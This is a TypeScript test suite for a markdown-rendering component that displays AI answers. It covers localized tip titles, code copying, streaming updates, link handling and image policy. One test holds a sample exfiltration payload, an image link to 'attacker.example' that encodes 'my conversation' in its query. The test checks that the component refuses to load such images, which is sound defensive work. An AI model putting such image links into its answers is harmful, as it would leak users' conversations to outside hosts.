// <MarkdownView>: what a reader sees and does with a rendered answer.
import { expect, waitUntil } from '@open-wc/testing'
import { mountMarkdown, type Mounted } from './mount'
import { nth } from '../support/nth'

const TIPS = `> [!TIP]
> a

> [!NOTE]
> b

> [!WARNING]
> c

> [!IMPORTANT]
> d

> [!CAUTION]
> e

::: tip
f
:::

::: warning 自己的标题
g
:::
`

const CODE = 'const tag = "<b>x</b>"\n\n\tindented();'

describe('MarkdownView', () => {
  let mounted: Mounted | undefined
  afterEach(() => {
    mounted?.unmount()
    mounted = undefined
  })

  const titles = () => [...mounted!.shadow.querySelectorAll('.zx-md-tip-title')].map(title => title.textContent)

  it('titles tip blocks in the reader’s language, keeping titles the answer gives', () => {
    mounted = mountMarkdown({ text: TIPS, locale: 'zh-CN' })
    expect(titles()).to.deep.equal(['提示', '注意', '警告', '重要', '小心', '提示', '自己的标题'])
    mounted.render({ text: TIPS, locale: 'en-US' })
    expect(titles()).to.deep.equal(['Tip', 'Note', 'Warning', 'Important', 'Caution', 'Tip', '自己的标题'])
    mounted.render({ text: TIPS, locale: 'zh-TW', labels: { tip: '小提示' } })
    expect(titles().slice(0, 2)).to.deep.equal(['小提示', '注意'])
  })

  it('copies the raw code with the copy button and says so', async () => {
    const copied: string[] = []
    const clipboard = Object.getOwnPropertyDescriptor(Navigator.prototype, 'clipboard')
    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: { writeText: async (text: string) => void copied.push(text) } })
    try {
      mounted = mountMarkdown({ text: `看代码：\n\n\`\`\`js\n${CODE}\n\`\`\`\n`, locale: 'zh-CN' })
      const button = mounted.shadow.querySelector<HTMLButtonElement>('button.zx-md-copy')!
      expect(button.textContent).to.equal('复制')
      button.click()
      await waitUntil(() => copied.length === 1, 'nothing was copied')
      expect(copied[0]).to.equal(CODE)
      await waitUntil(() => button.textContent === '已复制', 'no feedback on the button')
    } finally {
      delete (navigator as { clipboard?: unknown }).clipboard
      if (clipboard) Object.defineProperty(Navigator.prototype, 'clipboard', clipboard)
    }
  })

  it('labels the copy button and the code language', () => {
    mounted = mountMarkdown({ text: '```python\nprint(1)\n```', locale: 'en-US' })
    expect(mounted.shadow.querySelector('.zx-md-code-lang')!.textContent).to.equal('python')
    expect(mounted.shadow.querySelector('.zx-md-copy')!.getAttribute('aria-label')).to.equal('Copy')
  })

  it('touches only the last block when a delta arrives', async () => {
    const head = '# 标题\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n第一段。\n\n正在写的'
    mounted = mountMarkdown({ text: head, streaming: true })
    const blocks = () => [...mounted!.view().children] as HTMLElement[]
    const before = blocks()
    expect(before).to.have.length(4)
    const markup = before.map(block => block.innerHTML)

    const touched = new Set<Node>()
    const observer = new MutationObserver(records => records.forEach(record => touched.add(record.target)))
    observer.observe(mounted.view(), { subtree: true, childList: true, characterData: true, attributes: true })
    let text = head
    for (const delta of ['段落', '，还有', '更多。']) mounted.render({ text: (text += delta), streaming: true })
    await Promise.resolve()
    observer.disconnect()

    const after = blocks()
    expect(after.slice(0, 3)).to.deep.equal(before.slice(0, 3))
    expect(after.slice(0, 3).map(block => block.innerHTML)).to.deep.equal(markup.slice(0, 3))
    for (const node of touched) expect(nth(after, 3, 'block').contains(node), 'a mutation outside the last block').to.equal(true)
    expect(nth(after, 3, 'block').textContent!.trim()).to.equal('正在写的段落，还有更多。')
  })

  it('marks itself busy while streaming', () => {
    mounted = mountMarkdown({ text: '一', streaming: true })
    expect(mounted.view().getAttribute('aria-busy')).to.equal('true')
    mounted.render({ text: '一二', streaming: false })
    expect(mounted.view().hasAttribute('aria-busy')).to.equal(false)
  })

  it('opens links in a new tab without opener and shows images of this site', () => {
    mounted = mountMarkdown({ text: `[学校](https://example.edu.cn) ![图](${location.origin}/a.png) ![点](data:image/png;base64,iVBORw0KGgo=)` })
    const link = mounted.shadow.querySelector('a')!
    expect([link.target, link.rel]).to.deep.equal(['_blank', 'noopener noreferrer'])
    const images = [...mounted.shadow.querySelectorAll('img')]
    expect(images.map(i => [i.getAttribute('src'), i.alt])).to.deep.equal([
      [`${location.origin}/a.png`, '图'],
      ['data:image/png;base64,iVBORw0KGgo=', '点'],
    ])
  })

  it('shows an image of another host as a link that loads nothing until clicked', async () => {
    const leak = 'https://attacker.example/x.png?d=%E6%88%91%E7%9A%84%E5%AF%B9%E8%AF%9D'
    mounted = mountMarkdown({ text: `回答 ![图表](${leak})\n\n<img src="https://attacker.example/y.png">`, locale: 'en-US' })
    expect(mounted.shadow.querySelectorAll('img')).to.have.length(0)
    const placeholders = [...mounted.shadow.querySelectorAll<HTMLAnchorElement>('a.zx-md-external-image')]
    expect(placeholders.map(a => a.getAttribute('href'))).to.deep.equal([leak, 'https://attacker.example/y.png'])
    expect([placeholders[0]!.target, placeholders[0]!.rel]).to.deep.equal(['_blank', 'noopener noreferrer'])
    expect(placeholders[0]!.textContent).to.contain('图表').and.contain('Image from another site').and.contain('attacker.example')
    await new Promise(resolve => setTimeout(resolve, 100))
    expect(performance.getEntriesByType('resource').filter(e => e.name.includes('attacker.example'))).to.have.length(0)
  })

  it('renders a different answer in full when the text is replaced', () => {
    mounted = mountMarkdown({ text: '第一个回答\n\n- a' })
    mounted.render({ text: '第二个回答，比第一个长得多\n\n1. x\n2. y' })
    expect(mounted.view().textContent).to.not.contain('第一个回答')
    expect(mounted.shadow.querySelectorAll('ol li')).to.have.length(2)
  })
})
